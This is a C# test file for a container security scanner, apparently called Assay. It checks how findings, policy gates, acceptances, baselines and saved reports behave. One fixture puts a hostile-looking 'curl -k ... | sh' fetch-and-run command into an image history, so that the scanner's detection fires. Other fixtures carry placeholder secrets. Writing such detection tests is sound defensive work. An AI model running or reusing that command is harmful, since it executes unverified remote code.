using Assay.Core.Findings;
using Assay.Engine.Policy;
using Assay.TestKit;

namespace Assay.Engine.Tests.Checks;

/// <summary>What checks find, through scans, gates, acceptances and reports.</summary>
public sealed class CheckGateTests
{
    [Fact]
    public async Task An_images_config_and_history_are_part_of_every_scan()
    {
        using var folder = new TemporaryFolder();
        var layout = new OciLayoutBuilder(folder["image"]);
        var layer = layout.Layer(new TarBuilder().File("data", [1, 2, 3]).Build(), "RUN /bin/sh -c curl -k https://x.example/i.sh | sh # buildkit");
        layout.Add(layout.Image([layer]));

        var result = await ScanAsync("oci:" + layout.Folder, new ScanOptions { CacheFolder = folder["cache"] });
        var again = await ScanAsync("oci:" + layout.Folder, new ScanOptions { CacheFolder = folder["cache"] });
        var without = await ScanAsync("oci:" + layout.Folder, new ScanOptions { Subjects = ScanSubjects.Vulnerabilities });
        var alone = await ScanAsync("oci:" + layout.Folder, new ScanOptions { Subjects = ScanSubjects.Config });

        Assert.Contains(result.Checks!, finding => finding.Check.Id == "ASY-IM-0001");
        var piped = Assert.Single(result.Checks!, finding => finding.Check.Id == "ASY-DF-0062");
        Assert.Equal("history[0]", piped.Subject);
        Assert.Equal(result.Inventory.Artifact.Layers[0].DiffId, piped.Layer);
        Assert.Contains(result.Checks!, finding => finding.Check.Id == "ASY-DF-0064");
        Assert.Equal(result.Checks, again.Checks);
        Assert.Null(without.Checks);
        Assert.Equal(result.Checks, alone.Checks);
        Assert.Null(alone.Findings);
        Assert.Contains(alone.Issues, issue => issue.Code == "checks.layers.unread");
    }

    [Fact]
    public async Task A_folders_files_ride_on_the_one_pass()
    {
        using var folder = new TemporaryFolder();
        Write(folder, "app/Dockerfile", "FROM alpine\n");
        Write(folder, "app/node_modules/x/Dockerfile", "FROM alpine\n");
        Write(folder, "deploy/pod.yaml", "apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true\n  containers: []\n");
        Write(folder, "deploy/notes.yaml", "a: [\n");
        Write(folder, "chart/templates/pod.yaml", "apiVersion: v1\nkind: Pod\n{{ if x }}\n");

        var result = await ScanAsync("dir:" + folder["."], new ScanOptions());

        Assert.Equal(["app/Dockerfile", "deploy/pod.yaml"], result.Checks!.Select(finding => finding.Path).Distinct());
        Assert.Contains(result.Issues, issue => issue is { Code: "checks.templates", Level: IssueLevel.Notice });
        Assert.True(result.IsComplete);
        Assert.Null((await ScanAsync("dir:" + folder["."], new ScanOptions { InventoryOnly = true })).Checks);
    }

    [Fact]
    public async Task The_gate_counts_them_unless_they_are_accepted()
    {
        using var folder = new TemporaryFolder();
        Write(folder, "src/Dockerfile", "FROM a:1\nENV DB_PASSWORD=changeme\nUSER 1\n");
        Write(folder, "accept.yaml", "accept:\n  - check: ASY-DF-0040\n    path: ['**/src/*']\n    reason: testOnly\n    owner: me\n    expires: 2026-06-01\n");
        var options = new ScanOptions { FailOn = Severity.High, Time = new FixedTime(new DateTimeOffset(2026, 6, 1, 12, 0, 0, TimeSpan.Zero)) };
        var accepting = options with { Policy = new PolicyOptions { Accepted = [folder["accept.yaml"]] } };

        var failed = await CheckAsync(folder["src"], options);
        var passed = await CheckAsync(folder["src"], accepting);
        var expired = await CheckAsync(folder["src"], accepting with { Time = new FixedTime(new DateTimeOffset(2026, 6, 2, 12, 0, 0, TimeSpan.Zero)) });

        Assert.Equal(VerdictResult.Fail, failed.Verdict.Result);
        Assert.Equal("ASY-DF-0040", Assert.Single(failed.Verdict.Violations).Finding);
        Assert.Equal(VerdictResult.Pass, passed.Verdict.Result);
        Assert.Equal("accepted", passed.Checks!.First(finding => finding.Check.Id == "ASY-DF-0040").SuppressedBy!.Kind);
        Assert.Equal(VerdictResult.Fail, expired.Verdict.Result);
        Assert.Contains(expired.Verdict.Violations, violation => violation.Rule == "accept/expired");
    }

    [Fact]
    public async Task What_a_baseline_has_already_breaks_no_gate()
    {
        using var folder = new TemporaryFolder();
        Write(folder, "old/Dockerfile", "FROM a:1\nENV DB_PASSWORD=changeme\n");
        Write(folder, "new/Dockerfile", "FROM a:1\nWORKDIR /x\nENV DB_PASSWORD=changeme\nENV API_TOKEN=changeme\n");
        var options = new ScanOptions { FailOn = Severity.High };

        var result = await ScanAsync("dir:" + folder["new"], options with { Policy = new PolicyOptions { Baseline = "dir:" + folder["old"] } });
        var difference = await Scanner.CompareAsync("dir:" + folder["old"], "dir:" + folder["new"], options, null, TestContext.Current.CancellationToken);

        Assert.Equal([(3, "baseline"), (4, null)], result.Checks!.Where(finding => finding.Check.Id == "ASY-DF-0040").Select(finding => (finding.Range!.Value.Line, finding.SuppressedBy?.Kind)));
        Assert.Contains("Dockerfile:4", Assert.Single(result.Verdict.Violations).Text, StringComparison.Ordinal);
        Assert.Contains("Dockerfile:4", Assert.Single(difference.Verdict.Violations).Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Policies_look_at_them()
    {
        using var folder = new TemporaryFolder();
        Write(folder, "Dockerfile", "FROM alpine\nENV DB_PASSWORD=changeme\n");
        Write(folder, "policy.yaml", """
            version: 1
            name: p
            rules:
              - id: secrets
                checkCategory: secrets
              - id: pinned
                level: warn
                checks: [ASY-DF-0002]
              - id: cis
                benchmarks: ['CIS Docker 4.1']
              - id: severe
                checkSeverity: critical
              - id: written
                expression: check.target == "dockerfile" && check.message.contains("latest")
            """);

        var result = await CheckAsync(folder["Dockerfile"], new ScanOptions { Policy = new PolicyOptions { Policies = [folder["policy.yaml"]] } });

        Assert.Equal(["p/cis", "p/pinned", "p/secrets", "p/written"], result.Verdict.Violations.Select(violation => violation.Rule).Distinct().Order(StringComparer.Ordinal));
        Assert.Equal(VerdictResult.Fail, result.Verdict.Result);
    }

    [Fact]
    public async Task A_rule_can_not_mix_checks_and_packages()
    {
        using var folder = new TemporaryFolder();
        Write(folder, "policy.yaml", "version: 1\nrules:\n  - id: a\n    severity: high\n    checkSeverity: high\n");
        var failure = await Assert.ThrowsAsync<Core.AssayException>(() => CheckAsync(folder["policy.yaml"], new ScanOptions { Policy = new PolicyOptions { Policies = [folder["policy.yaml"]] } }));
        Assert.Contains("a rule for each", failure.Hint, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_saved_result_brings_them_back()
    {
        using var folder = new TemporaryFolder();
        Write(folder, "Dockerfile", "FROM alpine\n# assay:ignore ASY-DF-0040 reason=why until=2030-01-02\nENV DB_PASSWORD=changeme\n");
        var result = await CheckAsync(folder["Dockerfile"], new ScanOptions());
        using var json = new MemoryStream();
        Reports.AllReports.Formats.First(format => format.Name == "json").Write(result, json, new Reports.ReportOptions());
        json.Position = 0;

        var strict = await CheckAsync(folder["Dockerfile"], new ScanOptions { HonoursComments = false });
        Assert.All(strict.Checks!, finding => Assert.Null(finding.SuppressedBy));
        var saved = Reports.SavedResult.Read(json, "x", new Core.Files.ScanLimits(), TestContext.Current.CancellationToken);

        // The JSON says nothing of a check's examples.
        Assert.Equal(
            result.Checks!.Select(finding => finding with { Check = finding.Check with { Benchmarks = [], BadExample = "", GoodExample = "" } }),
            saved.Checks!.Select(finding => finding with { Check = finding.Check with { Benchmarks = [] } }));
        Assert.Equal(result.Checks!.Select(finding => string.Join(';', finding.Check.Benchmarks)), saved.Checks!.Select(finding => string.Join(';', finding.Check.Benchmarks)));
    }

    private static Task<ScanResult> ScanAsync(string target, ScanOptions options) => Scanner.ScanAsync(target, options, null, TestContext.Current.CancellationToken);

    private static Task<ScanResult> CheckAsync(string path, ScanOptions options) => Scanner.CheckAsync([path], options, null, TestContext.Current.CancellationToken);

    private static void Write(TemporaryFolder folder, string name, string text)
    {
        var path = folder[name];
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, text);
    }

    private sealed class FixedTime(DateTimeOffset now) : TimeProvider
    {
        public override DateTimeOffset GetUtcNow() => now;
    }
}
